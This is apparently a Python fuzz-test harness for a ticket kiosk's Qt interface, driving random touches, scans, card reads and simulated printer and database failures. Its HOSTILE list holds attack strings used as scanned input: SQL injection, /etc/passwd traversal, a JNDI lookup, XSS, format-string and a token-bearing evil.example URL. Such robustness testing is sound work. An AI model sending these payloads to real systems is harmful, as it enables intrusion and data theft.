"""A monkey at a kiosk with every entry: it touches, types, scans, lays cards down, cuts cables.

After each burst the kiosk must be whole (:func:`Monkey.check`), and time alone leads home
(:func:`Monkey.wait_for_home`).
"""

import logging
import random
from collections import Counter
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import replace
from datetime import UTC, datetime, time, timedelta
from pathlib import Path
from threading import Event
from time import monotonic
from typing import Any

from argon2 import PasswordHasher
from PySide6.QtCore import QCoreApplication, QEvent, QPoint, QPointF, Qt
from PySide6.QtGui import QKeyEvent, QMouseEvent
from PySide6.QtWidgets import QAbstractButton, QApplication, QWidget
from pytestqt.qtbot import QtBot

from hallclient.domain.hall import HallPlan
from hallclient.domain.parts import Staff, StaffRole
from hallclient.domain.ticket import TicketStatus
from hallclient.kiosk.desk import KioskTimes
from hallclient.kiosk.modes import Modes
from hallclient.kiosk.taking import Wish
from hallclient.kiosk.technician import TechnicianKit
from hallclient.kiosk.visit import Page, new_request
from hallclient.lab.sheets.scenes import come_to
from hallclient.logs import RecentLines
from hallclient.services.days import changing
from hallclient.services.helping import HELPER
from hallclient.services.issuing import Issuing, TicketRequest
from hallclient.services.pin_guard import LONGEST_WAIT_S, PinGuard
from hallclient.services.ports_devices import DeviceState, PrintResult, PrintTrouble, Visitor
from hallclient.services.slip import Slip, TicketSlip
from hallclient.services.spool import Spool
from hallclient.services.spool_lines import Tick
from hallclient.storage.spool_file import SpoolFile
from hallclient.ui.wedge import KeyboardWedge
from tests.widget.kiosk_support import FakePrinter, Kiosk, Unreachable, daily, running_kiosk
from tests.widget.reading_support import add_case, book, miss
from tests.widget.test_accessibility import hall as full_hall

MORNING = datetime(2026, 9, 29, 1, tzinfo=UTC)
"""Tuesday, nine in the morning in Shanghai."""
OPENS, CLOSES = time(8), time(22)
PIN, USHER_PIN = "24682468", "25802580"
LANGUAGES = ("zh-CN", "zh-Hant", "en")
MODES = (Modes(), Modes(elder=True), Modes(contrast=True), Modes(low=True), Modes(voice=True),
         Modes(elder=True, low=True, contrast=True, voice=True))  # fmt: skip
PATIENT = KioskTimes(
    refresh=0.2,
    print_answer=0.02,
    retries=(0.01, 0.02),
    quiet=0.01,
    leftovers=0.02,
    give_up=0.05,
    offline=0.05,
)
"""What a citizen has is real time by the monkey's clock; what the machines have is short."""

HOSTILE = (
    "SELECT * FROM ticket; DROP TABLE ticket; --",
    "' OR '1'='1",
    "../../../../etc/passwd",
    "https://evil.example/?token=ABCDEFGHJKMNPQRS",
    "\x00\x1b[2J\x07\x9b31m",
    "\u202eevil\u202cgnp.exe",
    "🎫🙈🙉🙊🎟️🧾",
    "{{7*7}}${jndi:ldap://evil}",
    "<script>alert(1)</script>",
    "999999199003070012",
    "２０２６１１２２００００１" * 40,
    "SELECTION" * 1200,
    "%s%s%s%n%x",
    "]C1SELECTED-CODE",
    "\ud800",
    "1122-A023-9F3K\r\n1122-A024-9F3K",
    "",
    " ",
)
"""Nobody's code."""
CARDS = (
    Visitor("a" * 64, "王*芳"),
    Visitor("b" * 64, "李*", elderly=True),
    Visitor("", "赵*", elderly=True),
)
SECRETS = (
    *("DROP TABLE", "etc/passwd", "evil", "jndi", "alert(1)", "SELECTION", "999999199003070012"),
    *(PIN, USHER_PIN, "王*芳", "李*", "a" * 64, "b" * 64, "🙈"),
)
"""What may stand in no line of a log, besides the tokens of tickets and appointments."""
TAKES = frozenset(
    {Page.CONFIRM, Page.SEVERAL, Page.EASY, Page.EASY_CHOICE, Page.FOUND, Page.CHECK_IN}
)
"""Pages with a control that takes a number."""
PATIENCE_S = 10.0
AT_REST = frozenset({Page.STARTING, Page.HOME, Page.CLOSED, Page.EASY})
KEYS = (
    *(Qt.Key.Key_Tab, Qt.Key.Key_Backtab, Qt.Key.Key_Return, Qt.Key.Key_Enter, Qt.Key.Key_Space),
    *(Qt.Key.Key_Up, Qt.Key.Key_Down, Qt.Key.Key_Left, Qt.Key.Key_Right, Qt.Key.Key_Escape),
    *(Qt.Key.Key_Backspace, Qt.Key.Key_Delete, Qt.Key.Key_Home, Qt.Key.Key_End, Qt.Key.Key_F1),
    *(Qt.Key.Key_F4, Qt.Key.Key_F11, Qt.Key.Key_PageUp, Qt.Key.Key_PageDown, Qt.Key.Key_Menu),
)
SIGNS = "0123456789ABCXYZabcxyz-_. '\"%我房é²\t\x7f"


class Clock:
    """The time of the hall, and the seconds of the kiosk; both in the monkey's hand."""

    def __init__(self) -> None:
        self.seconds = 0.0

    def now(self) -> datetime:
        return MORNING + timedelta(seconds=self.seconds)

    def local(self) -> float:
        return 1000.0 + self.seconds

    @property
    def open(self) -> bool:
        """Whether the hall is open, with an hour to spare."""
        hour = (self.now() + timedelta(hours=8)).hour
        return OPENS.hour < hour < CLOSES.hour - 1

    def to_next_morning(self) -> None:
        there = (self.now() + timedelta(hours=8 + 15)).replace(hour=9, minute=0)
        self.seconds = (there - timedelta(hours=8) - MORNING).total_seconds()


class MoodyPrinter(FakePrinter):
    """Prints every slip as its mood is, and forgets it."""

    def __init__(self) -> None:
        super().__init__()
        self.count = 0

    def print_slip(self, slip: Slip) -> int:
        self.count += 1
        if isinstance(slip, TicketSlip):
            self.slips[:] = [slip]
        if self.answers is not None:
            self.say(self.count, *self.answers)
        return self.count


class Reader:
    """A card reader: what lies on it is read once that is allowed."""

    def __init__(self) -> None:
        self.state = DeviceState.READY
        self.allowed = False

    def allow(self, *, reading: bool) -> None:
        self.allowed = reading


class Mouth:
    """A voice that says nothing."""

    def read(self, lines: tuple[str, ...], language: str, volume: int) -> None:
        assert all(lines)
        assert language in LANGUAGES
        assert 0 <= volume <= 100

    def hush(self) -> None: ...

    def close(self) -> None: ...


class Ears(logging.Handler):
    """Hears every line of the log: nothing personal, and no error."""

    def __init__(self) -> None:
        super().__init__(logging.DEBUG)
        self.secrets: list[str] = list(SECRETS)
        self.faults: list[str] = []

    def emit(self, record: logging.LogRecord) -> None:
        text = self.format(record)
        if record.levelno >= logging.ERROR:
            self.faults.append(text)
        self.faults += [f"{secret} is in the log" for secret in self.secrets if secret in text]


def monkey_hall() -> HallPlan:
    """A hall with everything that has an entry, an usher, and a quota somewhere."""
    plan = full_hall()
    cheap = PasswordHasher(time_cost=1, memory_cost=8, parallelism=1).hash(USHER_PIN)
    return replace(
        plan,
        hours=daily(OPENS, CLOSES),
        queues=tuple(
            replace(q, slice_booked=1000, day_quota=150 if q.code == "FP" else 0)
            for q in plan.queues
        ),
        staff=(
            Staff("1001", "样张", StaffRole.USHER, pin_hash=cheap),
            Staff("1002", "样本", StaffRole.CLERK, pin_hash=cheap),
        ),
        rules=replace(plan.rules, closing_load_percent=0),
    )


class Monkey:
    """Does one thing after the other; every thing it may do is a method without arguments."""

    def __init__(self, kiosk: Kiosk, qtbot: QtBot, clock: Clock, ears: Ears, seed: int) -> None:
        self.random = random.Random(seed)  # noqa: S311 - repeatable
        self.kiosk, self.qtbot, self.clock, self.ears = kiosk, qtbot, clock, ears
        self.presenter, self.screen = kiosk.presenter, kiosk.screen
        self.done: list[str] = []
        self.moves = self.takes = 0
        self.away = False
        self.deed = ""
        self.codes: list[str] = []
        self.unasked: list[str] = []
        self.seen: Counter[Page] = Counter()
        self.wishes: dict[str, Wish] = {}
        self.presenter.idle._clock = clock.local
        self.presenter.journeys.scanning._clock = clock.local
        self.wedge = KeyboardWedge(self.presenter, clock=clock.local)
        self.wedge.scanned.connect(self.presenter.journeys.scanning.scanned)
        self._watch_taking()
        self._often = self._habits()

    def _watch_taking(self) -> None:
        taking = self.presenter.taking
        take = taking.take

        def watched(wish: Wish) -> None:
            if wish.key not in self.wishes:
                if self.deed not in ("touch", "key") or self.presenter.page not in TAKES:
                    self.unasked.append(f"{self.deed} on {self.presenter.page} took a number")
                self.wishes[wish.key] = wish
            take(wish)

        taking.take = watched  # type: ignore[method-assign]

    # What it may do

    def _habits(self) -> tuple[tuple[Callable[[], None], int], ...]:
        return (
            (self.touch_control, 30),
            (self.touch_twice, 8),
            (self.touch_anywhere, 25),
            (self.drag, 3),
            (self.press_key, 12),
            (self.type_sign, 10),
            (self.type_number, 2),
            (self.scan, 5),
            (self.scan_fast_keys, 1),
            (self.lay_card, 3),
            (self.pump, 6),
            (self.wait, 2),
            (self.printer, 2),
            (self.database, 1),
            (self.world, 1),
            (self.switch, 1),
            (self.jump, 0),
        )

    def step(self) -> None:
        """Do one of them."""
        acts, weights = zip(*self._often, strict=True)
        act = self.random.choices(acts, weights)[0]
        self.seen[self.presenter.page] += 1
        self.done.append(f"{self.presenter.page}: {act.__name__}")
        del self.done[:-40]
        self.moves += 1
        act()
        self.deed = ""

    def controls(self) -> list[QAbstractButton]:
        """What can be touched now, on the page and on the strip."""
        found = self.screen.findChildren(QAbstractButton)
        return [b for b in found if b.isVisible() and b.isEnabled()]

    def touch_control(self) -> None:
        controls = self.controls()
        if controls:
            control = self.random.choice(controls)
            self.done[-1] += f" {control.accessibleName()}"
            self._touch(control.mapTo(self.screen, control.rect().center()))

    def touch_twice(self) -> None:
        controls = self.controls()
        if controls:
            control = self.random.choice(controls)
            self.done[-1] += f" {control.accessibleName()}"
            at = control.mapTo(self.screen, control.rect().center())
            self._touch(at)
            self._touch(at)

    def touch_anywhere(self) -> None:
        self._touch(self._somewhere())

    def drag(self) -> None:
        """Press here and let go there."""
        self.deed = "touch"
        start, end = self._somewhere(), self._somewhere()
        widget = self.screen.childAt(start) or self.screen
        self._mouse(QEvent.Type.MouseButtonPress, widget, start)
        self._mouse(QEvent.Type.MouseMove, widget, end)
        self._mouse(QEvent.Type.MouseButtonRelease, widget, end)

    def press_key(self) -> None:
        held = Qt.KeyboardModifier.NoModifier
        if self.random.random() < 0.05:
            held = self.random.choice(
                (Qt.KeyboardModifier.ControlModifier, Qt.KeyboardModifier.AltModifier)
            )
        key = self.random.choice(KEYS)
        self.done[-1] += f" {key.name}"
        self._key(key, "", held)

    def type_sign(self) -> None:
        sign = self.random.choice(SIGNS)
        self._key(_key_of(sign), sign)

    def type_number(self) -> None:
        """Type what opens something here."""
        text = self.random.choice((PIN, "1001", USHER_PIN, "A001", "B001", *self.codes[-3:]))
        for sign in text:
            self._key(_key_of(sign), sign)
        self._key(Qt.Key.Key_Return, "\r")

    def scan(self) -> None:
        self.deed = "scan"
        text = self._code()
        for _ in range(self.random.choice((1, 1, 2, 3))):
            self.presenter.journeys.scanning.scanned(text)

    def scan_fast_keys(self) -> None:
        """A scanner that types like a keyboard."""
        self.deed = "scan"
        for sign in self._code()[:600]:
            self._send_key(_key_of(sign), sign)
        self._send_key(Qt.Key.Key_Return, "\r")
        self._let_keys_go()

    def lay_card(self) -> None:
        self.deed = "card"
        card, reader = self.presenter.journeys.card, self.presenter.desk.reader
        assert isinstance(reader, Reader)
        what = self.random.random()
        if what < 0.1:
            reader.state = self.random.choice((DeviceState.READY, DeviceState.ABSENT))
        elif what < 0.5 or not reader.allowed:
            card.noticed()
        elif what < 0.7:
            card.unreadable()
        else:
            reader.allowed = False
            card.read(self.random.choice(CARDS))

    def pump(self) -> None:
        QCoreApplication.processEvents()

    def wait(self) -> None:
        """Some seconds pass without a touch."""
        self.clock.seconds += self.random.choice((0.4, 3, 14, 50))
        self.presenter.idle.check()
        self.presenter.ticked.emit()
        if not self.away and self.random.random() < 0.3:
            self.presenter.figures.look()

    def printer(self) -> None:
        printer = self.kiosk.printer
        assert printer is not None
        printer.answers = self.random.choice(
            (
                *((PrintResult.PRINTED, None),) * 4,
                (PrintResult.NOT_PRINTED, PrintTrouble.PAPER_OUT),
                (PrintResult.UNKNOWN, PrintTrouble.OFFLINE),
                None,
            )
        )
        printer.state = self.random.choice((DeviceState.READY,) * 4 + (DeviceState.ABSENT,))
        trouble = self.random.choice((None, None, None, *PrintTrouble))
        self.presenter.printer_status_changed(printer.state, trouble)

    def database(self) -> None:
        self.set_away(not self.away)

    def world(self) -> None:
        """The hall goes on: tickets are missed, appointments come, an usher comes or leaves."""
        self.random.choice((self._miss, self._book, self._case, self._helper, self._end))()
        if not self.away:
            self.presenter.figures.look()

    def switch(self) -> None:
        """Another language or mode, wherever somebody is."""
        if self.random.random() < 0.5:
            self.presenter.switch_language(self.random.choice(LANGUAGES))
        else:
            self.presenter.set_modes(self.random.choice(MODES))

    def jump(self) -> None:
        """Hours pass: the hall closes, or opens again."""
        self.clock.seconds += self.random.choice((600, 3600, 6 * 3600))

    # After a burst

    def until(self, condition: Callable[[], bool]) -> None:
        """Let the kiosk work until this holds; quicker than ``waitUntil``, which looks rarely."""
        end, pause = monotonic() + PATIENCE_S, Event()
        QCoreApplication.processEvents()
        while not condition():
            assert monotonic() < end, ("it did not come to rest", self.done)
            pause.wait(0.0005)
            QCoreApplication.processEvents()

    def settle(self) -> None:
        """Wait until every answer has come."""
        desk = self.kiosk.desk
        self.until(lambda: not self.presenter.visit.issuing and desk.worker.pending == 0)

    def check(self) -> None:
        """Whatever was done, the kiosk is whole."""
        page = self.presenter.page
        assert not self.ears.faults, (self.ears.faults[:3], self.done)
        assert not self.unasked, (self.unasked, self.done)
        assert self.screen.page.isVisible(), self.done
        assert self.screen._shown is page, self.done
        self.screen.page.refresh()
        assert self.presenter.visit.refused != "unexpected", self.done
        if page not in AT_REST:
            runs = self.presenter.idle.left > 0
            assert runs, (f"no time runs on {page}", self.done)
        if page is not Page.STARTING and page is not Page.CLOSED:
            assert self.controls(), (f"nothing to touch on {page}", self.done)

    def wait_for_home(self) -> None:
        """Nobody is there any more: time alone leads home, and nothing of the visit stays."""
        page = self.presenter.page
        for _ in range(3):
            if self.presenter.idle.left == 0 and not self.presenter.visit.issuing:
                break
            self.clock.seconds += self.presenter.idle.left
            self.presenter.idle.check()
            self.settle()
        assert self.presenter.page in AT_REST, (f"{page} did not lead home", self.done)
        assert self.presenter.modes == self.presenter.desk.modes, (page, self.done)
        assert self.presenter.words.language == "zh-CN", (page, self.done)
        visit = self.presenter.visit
        kept = (visit.person, visit.issued, visit.service, visit.usher)
        assert not any(kept), self.done
        assert self.presenter.journeys.ushering.state.usher is None, self.done

    def go_to(self, page: Page) -> None:
        """Bring the kiosk to a page, in any language and mode."""
        if not self.clock.open and page is not Page.CLOSED:
            self.clock.to_next_morning()
        self.set_away(False)
        printer = self.kiosk.printer
        assert printer is not None
        printer.answers, printer.state = (PrintResult.PRINTED, None), DeviceState.READY
        self.presenter.home()
        self.look()
        if page is Page.CLOSED:
            self.clock.seconds += 0 if self.presenter.page is page else 14 * 3600
            self.look()
            return
        self.presenter.switch_language(self.random.choice(LANGUAGES))
        elders = page in (Page.EASY, Page.EASY_CHOICE, Page.EASY_DONE)
        modes = [m for m in MODES if m.elder is elders] if elders or page is Page.HOME else MODES
        self.presenter.set_modes(self.random.choice(modes))
        self.deed = "touch"
        self._come_to(page)
        self.deed = ""

    def _come_to(self, page: Page) -> None:
        unasked = len(self.unasked)
        if page is Page.TECHNICIAN:
            self.clock.seconds += LONGEST_WAIT_S  # the monkey has tried other PINs
        come_to(self.kiosk, page)
        del self.unasked[unasked:]
        if page is Page.USHER and self.random.random() < 0.5:
            self.presenter.home()
            self._sign_in()
        if page is Page.TECHNICIAN:
            self.presenter.home()
            self._let_in()

    def _sign_in(self) -> None:
        ushering = self.presenter.journeys.ushering
        ushering.open()
        for sign in "1001":
            ushering.key(sign)
        ushering.enter()
        for sign in USHER_PIN:
            ushering.key(sign)
        ushering.enter()
        self.settle()

    def _let_in(self) -> None:
        self.presenter.open_technician()
        for sign in PIN:
            self._key(_key_of(sign), sign)
        self._key(Qt.Key.Key_Return, "\r")

    def look(self) -> None:
        """Let the kiosk see the hall as it is now."""
        figures = self.presenter.figures
        self.until(lambda: not figures._looking)
        figures.look()
        self.until(lambda: not figures._looking and not figures.down)
        self.settle()

    def set_away(self, away: bool) -> None:
        """Let the database go away or come back, for the kiosk only."""
        if away is self.away:
            return
        self.away = away
        store: Any = self.kiosk.desk.store
        for name in ("change", "look", "take_lease"):
            if away:
                setattr(store, name, _nobody)
            else:
                delattr(store, name)

    def objects(self) -> int:
        """How many Qt objects the kiosk is made of."""
        return len(self.screen.findChildren(QWidget)) + len(self.presenter.children())

    # Inside

    def _somewhere(self) -> QPoint:
        width, height = self.screen.width(), self.screen.height()
        return QPoint(self.random.randrange(width), self.random.randrange(height))

    def _touch(self, at: QPoint) -> None:
        self.deed = "touch"
        widget = self.screen.childAt(at) or self.screen
        self._mouse(QEvent.Type.MouseButtonPress, widget, at)
        self._mouse(QEvent.Type.MouseButtonRelease, widget, at)

    def _mouse(self, kind: QEvent.Type, widget: QWidget, at: QPoint) -> None:
        local = QPointF(widget.mapFrom(self.screen, at))
        left = Qt.MouseButton.LeftButton
        held = Qt.MouseButton.NoButton if kind is QEvent.Type.MouseButtonRelease else left
        event = QMouseEvent(kind, local, QPointF(at), left, held, Qt.KeyboardModifier.NoModifier)
        QApplication.sendEvent(widget, event)

    def _key(self, key: Qt.Key, text: str, held: Qt.KeyboardModifier | None = None) -> None:
        self.deed = "key"
        self._send_key(key, text, held)
        self._let_keys_go()

    def _send_key(self, key: Qt.Key, text: str, held: Qt.KeyboardModifier | None = None) -> None:
        modifiers = held or Qt.KeyboardModifier.NoModifier
        holder = QApplication.focusWidget()
        inside = holder is not None and self.screen.isAncestorOf(holder)
        for kind in (QEvent.Type.KeyPress, QEvent.Type.KeyRelease):
            to = holder if inside and holder is not None else self.screen
            QApplication.sendEvent(to, QKeyEvent(kind, key, modifiers, text))

    def _let_keys_go(self) -> None:
        """Nothing follows: what may have been a scan was a finger."""
        self.wedge._pause()

    def _code(self) -> str:
        if self.codes and self.random.random() < 0.6:
            return self.random.choice(self.codes[-20:])
        return self.random.choice(HOSTILE)

    def _remember(self, *codes: str) -> None:
        self.codes += codes
        self.ears.secrets += [code for code in codes if len(code) >= 16]
        del self.codes[:-40]

    def _miss(self) -> None:
        if not self.clock.open:
            return
        request = TicketRequest(new_request(), self.random.choice(("BDC01", "SW01", "ZH01")))
        ticket = Issuing(self.kiosk.store, "elsewhere").issue(request).ticket
        self._remember(ticket.token)
        if self.random.random() < 0.7:
            miss(self.kiosk, ticket)

    def _book(self) -> None:
        if not self.clock.open:
            return
        person = self.random.choice(("", CARDS[1].person))
        minutes = self.random.choice((-60, -5, 5, 60))
        self._remember(book(self.kiosk, person=person, minutes=minutes))

    def _case(self) -> None:
        if self.clock.open and not self.away:
            self._remember(add_case(self.kiosk))

    def _helper(self) -> None:
        self.kiosk.store.take_lease(HELPER, "usher", self.random.choice((1, 3000)))

    def _end(self) -> None:
        """Every ticket of now is done."""
        with self.kiosk.store.look() as reader:
            entries = reader.entries_after(0, 1_000_000)[-60:]
            found = [reader.ticket(int(e.subject.split(":")[1])) for e in entries
                     if e.kind == "ticket.issued"]  # fmt: skip
        with changing(self.kiosk.store, "test") as tx:
            for one in found:
                ticket = tx.ticket(one.id) if one else None
                if ticket is not None and ticket.status is TicketStatus.WAITING:
                    tx.move_ticket(ticket, TicketStatus.ENDED)


def _nobody(*_args: object, **_more: object) -> Any:
    raise Unreachable("nobody answers")


def _key_of(sign: str) -> Qt.Key:
    code = ord(sign.upper()) if sign else 0
    return Qt.Key(code) if 0x20 <= code < 0x60 else Qt.Key.Key_unknown


@contextmanager
def at_the_kiosk(
    folder: Path, qtbot: QtBot, seed: int, *, plan: HallPlan | None = None
) -> Iterator[Monkey]:
    """A monkey before a running kiosk with everything a kiosk can have."""
    clock, ears = Clock(), Ears()
    guard = PinGuard(clock=clock.local)
    lines = RecentLines()
    kit = TechnicianKit(
        fits=lambda pin: guard.check("technician", lambda: pin == PIN),
        left=lambda: guard.left("technician"),
        log_lines=lines.today,
        keep_volume=lambda _volume: None,
        restart=lambda: None,
        desktop=lambda: None,
    )
    root = logging.getLogger()
    level = root.level
    root.addHandler(ears)
    root.setLevel(logging.INFO)
    try:
        with running_kiosk(
            folder,
            plan or monkey_hall(),
            printer=MoodyPrinter(),
            times=PATIENT,
            clock=clock.now,
            scanner=True,
            reader=Reader(),
            voice=Mouth(),
            technician=kit,
            pins=lambda: guard,
            spool=lambda: Spool(
                SpoolFile(folder / "spool"), lambda: Tick("boot", clock.local()), clock.now
            ),
        ) as kiosk:
            kiosk.screen.resize(270, 480)
            qtbot.waitUntil(lambda: kiosk.presenter.known, timeout=8000)
            kiosk.store.take_lease(HELPER, "usher", 10**7)
            monkey = Monkey(kiosk, qtbot, clock, ears, seed)
            try:
                yield monkey
            finally:
                monkey.set_away(False)
                monkey.wedge.deleteLater()
    finally:
        root.removeHandler(ears)
        root.setLevel(level)
